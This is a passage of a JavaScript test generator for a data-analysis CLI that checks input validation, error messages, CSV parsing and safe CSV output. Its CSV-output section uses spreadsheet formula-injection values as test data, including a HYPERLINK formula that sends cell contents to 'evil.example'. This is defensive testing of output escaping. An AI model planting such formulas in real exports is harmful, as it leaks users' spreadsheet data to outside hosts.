  promptsOption('prompts-condition-unknown', 'color', { condition: 'persona' }, /^condition must be none, identity, random or nonsense, got 'persona'$/);
  promptsOption('prompts-persona-as-unknown', 'color', { 'persona-as': 'assistant' }, /^persona-as must be user or system, got 'assistant'$/);
  promptsOption('prompts-wording-unknown', 'concept', { wording: 'plain' }, /^wording must be paper or corrected, got 'plain'$/);
  promptsOption('prompts-too-few-concepts', 'concept', { concepts: 'a,b' }, /at least 3 concepts are needed/);
  promptsOption('prompts-random-without-file', 'color', { condition: 'random' }, /the random condition needs a persona file/);
  color('settings', 'column-role-unknown', small, { status: 2, message: /^unknown column role 'colr' \(roles: individual, word, /, }, { columns: { colr: 'x' } });
  concept('settings', 'column-role-of-other-task', conceptSmall, { status: 2, message: /^unknown column role 'hex1' \(roles: concept, / }, { columns: { hex1: 'x' } });
  color('settings', 'column-missing', small, { status: 1, message: /small\.csv, row 1, column 'shade': required column is missing/ }, { columns: { word: 'shade' } });

  // --- 7. Messages: the file named, the user's own column names, short quotes.
  {
    const renamed = m.humanCsv(4, WORDS.slice(0, 2), { header: ['who', 'Wort', 'R', 'G', 'B', 'cond'] }).replace(/\n1,sky,\d+,/, '\n1,sky,x,');
    color('messages', 'renamed-column-named-as-in-file', [file('renamed.csv', renamed)],
      { status: 1, message: /renamed\.csv, row 2, column 'R': expected a colour channel/ },
      { columns: { individual: 'who', word: 'Wort', r: 'R', g: 'G', b: 'B', block: 'cond' } });
    const alone = m.humanRows(3, WORDS.slice(0, 2));
    alone.push(['1', 'lonely', '1', '2', '3', 'block1'], ['1', 'lonely', '1', '2', '4', 'block2']);
    color('messages', 'renamed-word-column-after-loading', [file('wort.csv', m.humanCsv(0, [], { header: ['who', 'Wort', 'R', 'G', 'B', 'cond'], rows: alone }))],
      { status: 1, message: /^wort\.csv, row 14, column 'Wort': the word 'lonely' was answered by only one individual of population 'human'/ },
      { columns: { individual: 'who', word: 'Wort', r: 'R', g: 'G', b: 'B', block: 'cond' } });
    const hugeCell = m.humanRows(4, WORDS.slice(0, 2));
    hugeCell[0][2] = '9'.repeat(8 * MiB);
    color('messages', 'huge-cell-quoted-short', [file('huge.csv', m.humanCsv(0, [], { rows: hugeCell }))],
      { status: 1, message: /^huge\.csv, row 2, column 'response_r': expected a colour channel, an integer from 0 to 255, found '9{80}\.\.\.' \(8388608 bytes\)$/ });
    const hugeHex = 'population,individual,word,block,colour\n' + `gpt,1,sky,1,#${'a'.repeat(3 * MiB)}\n`;
    color('messages', 'huge-hex-quoted-short', [file('hex.csv', hugeHex)], { status: 1, message: /found '#a{79}\.\.\.' \(3145729 bytes\)$/ });
    const longName = 'c'.repeat(100000);
    color('messages', 'long-column-name-cut', [file('longcol.csv', m.humanCsv(4, WORDS.slice(0, 2)).replace('condition', longName))],
      { status: 1, message: /^longcol\.csv, row 1: cannot tell which colour format this is \(columns present: participantID, word, response_r, response_g, response_b, c{40}\.\.\.\)/ });
    color('messages', 'not-utf8', [file('latin1.csv', Buffer.concat([Buffer.from(m.humanCsv(4, WORDS.slice(0, 2)).replace('sky', 'sk')), Buffer.from([0xe9, 0x0a])]))],
      { status: 1, message: /latin1\.csv, row \d+, column 'participantID': the text is not UTF-8 \(byte 0xE9 in this cell\)/ });
    color('messages', 'ragged-row', [file('ragged.csv', m.humanCsv(4, WORDS.slice(0, 2)) + '1,sky,1\n')],
      { status: 1, message: /ragged\.csv, row 18: expected 6 fields as in the header, found 3 fields/ });
    color('messages', 'quote-never-closed', [file('quote.csv', m.humanCsv(4, WORDS.slice(0, 2)) + '1,"sky,1,2,3,block1\n')],
      { status: 1, message: /quote\.csv, row 18: a quoted field is never closed/ });
    color('messages', 'empty-file', [file('empty.csv', '')], { status: 1, message: /^empty\.csv: the file is empty$/ });
    color('messages', 'header-only', [file('header.csv', 'participantID,word,response_r,response_g,response_b,condition\n')],
      { status: 1, message: /^header\.csv: the file has a header but no data rows$/ });
    color('messages', 'only-blank-lines', [file('blank.csv', '\n\n\r\n  \n')], { status: 1, message: /^blank\.csv: the file is empty$/ });
    color('messages', 'directory-as-input', [], { status: 1, message: /a-directory: this is a directory; give the files in it instead$/ },
      { nativeOnly: true, directory: 'a-directory' });
    color('messages', 'short-option-is-not-a-file', small, { status: 2, message: /^unknown option -q \(options start with --; see --help\)$/ },
      { nativeOnly: true, argv: ['-q'] });
    color('messages', 'tables-on-a-file', small, { status: 2, message: /^--tables expects a directory, but '.*small\.csv' is a file$/ },
      { nativeOnly: true, tablesOnInput: true });
    color('messages', 'missing-file', [], { status: 1, message: /nowhere\.csv: cannot open the file for reading$/ },
      { nativeOnly: true, argv: ['nowhere.csv'] });
  }

  // --- 8. Delimited structure: duplicate columns, delimiters, line ends, widths.
  {
    color('structure', 'duplicate-csv-column', [file('dupcol.csv', m.humanCsv(4, WORDS.slice(0, 2), { header: ['participantID', 'word', 'response_r', 'response_g', 'response_b', 'word'] }))],
      { status: 1, message: /^dupcol\.csv, row 1, column 'word': the column name appears twice \(columns 2 and 6\)/ });
    color('structure', 'duplicate-csv-column-by-case', [file('dupcase.csv', m.humanCsv(4, WORDS.slice(0, 2), { header: ['participantID', 'Word', 'response_r', 'response_g', 'response_b', 'condition', 'WORD '] }).replace(/\n/g, ',x\n').replace(/^(.*?),x\n/, '$1\n'))],
      { status: 1, message: /column 'WORD ': the column name appears twice \(columns 2 and 7\)/ });
    color('structure', 'semicolons', [file('semi.csv', m.humanCsv(4, WORDS.slice(0, 2), { delimiter: ';' }))], { status: 0 });
    color('structure', 'tabs-crlf', [file('tabs.tsv', m.humanCsv(4, WORDS.slice(0, 2), { delimiter: '\t', eol: '\r\n' }))], { status: 0 });
    color('structure', 'bom-and-cr', [file('bom.csv', '\ufeff' + m.humanCsv(4, WORDS.slice(0, 2), { eol: '\r\n' }))], { status: 0 });
    const wide = ['participantID', 'word', 'response_r', 'response_g', 'response_b', 'condition', ...Array.from({ length: 20000 }, (_, i) => `x${i}`)];
    const wideRows = m.humanRows(4, WORDS.slice(0, 2)).map((r) => [...r, ...Array(20000).fill('')]);
    color('structure', 'twenty-thousand-columns', [file('wide.csv', [wide, ...wideRows].map((r) => r.join(',')).join('\n'))], { status: 0 });
    const quoted = m.humanRows(4, WORDS.slice(0, 2)).map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`));
    color('structure', 'every-cell-quoted', [file('quoted.csv', m.humanCsv(0, [], { rows: quoted }))], { status: 0 });
    const manyRows = m.humanRows(2000, ['sky']);
    color('structure', 'four-thousand-rows', [file('many.csv', m.humanCsv(0, [], { rows: manyRows }))], { status: 0 });
    color('structure', 'null-bytes', [file('nul.csv', Buffer.concat([Buffer.from(m.humanCsv(4, WORDS.slice(0, 2))), Buffer.from([0, 0, 0])]))],
      { status: 1, message: /nul\.csv, row 18: expected 6 fields as in the header, found 1 field/ });
    color('structure', 'empty-id', [file('noid.csv', m.humanCsv(4, WORDS.slice(0, 2)).replace(/\n1,/, '\n,'))],
      { status: 1, message: /noid\.csv, row 2, column 'participantID': expected a participant id, found an empty cell/ });
    color('structure', 'no-format-fits', [file('x.csv', 'a,b\n1,2\n')], { status: 1, message: /^x\.csv, row 1: cannot tell which colour format this is \(columns present: a, b\)/ });
  }

  // --- 9. Labels: one population, one family and alignment.
  {
    const aligned = (p) => (p % 2 ? 'yes' : 'no');
    color('labels', 'aligned-disagrees-between-rows', [file('al.csv', m.llmCsv(4, WORDS.slice(0, 2), { model_name: 'm', aligned }))],
      { status: 1, message: /al\.csv, row \d+: population 'm' is given aligned 'no' here but 'yes' in al\.csv, row 2/ });
    color('labels', 'family-disagrees-between-rows', [file('fam.csv', m.llmCsv(4, WORDS.slice(0, 2), { model_name: 'm', family: (p) => `f${p % 2}` }))],
      { status: 1, message: /fam\.csv, row \d+: population 'm' is given family 'f0' here but 'f1' in fam\.csv, row 2/ });
    color('labels', 'aligned-agrees', [file('ok.csv', m.llmCsv(4, WORDS.slice(0, 2), { model_name: 'm', aligned: 'yes', family: 'f' }))], { status: 0 });
    color('labels', 'aligned-not-yes-or-no', [file('maybe.csv', m.llmCsv(4, WORDS.slice(0, 2), { model_name: 'm', aligned: 'maybe' }))],
      { status: 1, message: /maybe\.csv, row 2, column 'aligned': expected yes or no/ });
    color('labels', 'aligned-across-files', [file('a.csv', m.llmCsv(4, WORDS.slice(0, 2), { model_name: 'm', aligned: 'yes' })),
      file('b.csv', m.llmCsv(4, WORDS.slice(0, 2), { model_name: 'm', aligned: 'no' }))],
    { status: 1, message: /b\.csv, row 2: population 'm' is given aligned 'no' here but 'yes' in a\.csv, row 2/ });
    concept('labels', 'concept-aligned-disagrees', [file('cal.csv', ['Concept,ID,Question,ChoiceNumber,model_name,aligned',
      ...m.conceptRows(4).map((r, i) => [...r, 'm', i % 3 ? 'true' : 'false'].join(','))].join('\n'))],
    { status: 1, message: /cal\.csv, row 3: population 'm' is given aligned 'yes' here but 'no' in cal\.csv, row 2/ });
  }

  // --- 10. Random bytes and mangled files: never a crash, always a message or a result.
  for (let i = 0; i < 12; ++i) {
    const base = Buffer.from(m.pick([m.humanCsv(4, WORDS.slice(0, 2)), jsonl(objects), m.llmCsv(4, WORDS.slice(0, 2))]));
    const mangled = Buffer.from(base);
    for (let k = 0; k < 1 + m.int(8); ++k) mangled[m.int(mangled.length)] = m.pick([0x22, 0x2c, 0x0a, 0x7b, 0x5b, 0xff, 0x00, 0x5c, m.int(256)]);
    color('mangled', `mangled-${i}`, [file(`mangled${i}.csv`, mangled)], { status: 'any' });
  }
  for (let i = 0; i < 4; ++i) {
    const bytes = Buffer.alloc(200 + m.int(5000));
    for (let k = 0; k < bytes.length; ++k) bytes[k] = m.int(256);
    concept('mangled', `random-bytes-${i}`, [file(`random${i}.bin`, bytes)], { status: 'any' });
  }

  // --- 11. A whole study at once: 30 similarity files of the paper's shape
  // (12 concepts × 50 individuals × 36 questions asked twice). Each file's
  // text and table are let go once its answers are placed, so memory stays
  // near the input's size, not a multiple of it.
  const study = [];
  for (let f = 0; f < 30; ++f) {
    const lines = ['Concept,ID,Question,ChoiceNumber'];
    for (let c = 0; c < 12; ++c) {
      for (let p = 0; p < 50; ++p) {
        for (let q = 0; q < 72; ++q) lines.push(`concept ${c},${p},concept ${c} option ${q % 36}a option ${q % 36}b,${(f * 7 + c * 5 + p * 3 + q) % 3 === 0 ? 1 : 0}`);
      }
    }
    study.push(file(`study-${String(f).padStart(2, '0')}.csv`, lines.join('\n') + '\n'));
  }
  concept('size', 'a-study-of-30-files', study, { status: 0 }, { perByte: { native: 2, wasm: 2 } });

  // --- 12. CSV out: names, words and replies that a spreadsheet would run
  // as formulas reach every CSV written with a leading apostrophe; cells
  // that read in full as numbers (-0.12, +3) stay numbers. `csvOut` names
  // the files to check (in the case's folder) and the cells they must hold.
  {
    const field = (text) => `"${text.replaceAll('"', '""')}"`;
    const link = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const words = ['=1+1', '-fire', '@SUM(1)', '+lemon'];
    color('csv-out', 'color-tables', [file('formula.csv', m.llmCsv(4, words.map(field), { model_name: field(link) }))], { status: 0 },
      { argv: ['--tables', 'tables'], csvOut: { files: ['tables/color-words.csv', 'tables/color-populations.csv'], cells: [`'${link}`, ...words.map((w) => `'${w}`)] } });
    const conceptCsv = ['Concept,ID,Question,ChoiceNumber,model_name',
      ...m.conceptRows(6, '@concept', ['=a', '-b', '+c']).map((r) => [...r.map(field), field('-population')].join(','))].join('\n') + '\n';
    concept('csv-out', 'concept-tables', [file('formula-concept.csv', conceptCsv)], { status: 0 },
      { argv: ['--tables', 'tables'], csvOut: { files: ['tables/concept-subsets.csv', 'tables/concept-reliability.csv', 'tables/concept-map-seating.csv'], cells: ["'-population", "'@concept"] } });
    // Requests as `shoal prompts` writes them, and replies from a batch API.
    const requests = [], results = [];
    const replies = { '=1+1': `${link} #ff0000`, '-fire': '-0.12', '@SUM(1)': '@SUM(A1) #00ff00', '+lemon': '+3', sky: '#0000ff' };
    for (let individual = 0; individual < 2; ++individual) {
      for (const block of [1, 2]) {
        for (const [word, reply] of Object.entries(replies)) {
          const id = `color/none/default/${individual}/${block}/${encodeURIComponent(word)}`;
          requests.push({ custom_id: id, method: 'POST', url: '/v1/chat/completions', body: { model: link, messages: [{ role: 'user', content: word }], max_tokens: 200 } });
          results.push({ custom_id: id, content: reply });
        }
      }
    }
    results.push({ custom_id: '=evil()', content: 'x' });
    add('csv-out', 'replies-and-problems', 'replies', [file('requests.jsonl', jsonl(requests)), file('results.jsonl', jsonl(results))], { status: 0 },
      { argv: ['--problems', 'problems.csv'], csvOut: { files: ['report.json', 'problems.csv'], cells: [`'${link}`, `'${link} #ff0000`, "'@SUM(A1) #00ff00", "'=evil()", '-0.12', '+3'] } });
  }
  return cases;
}
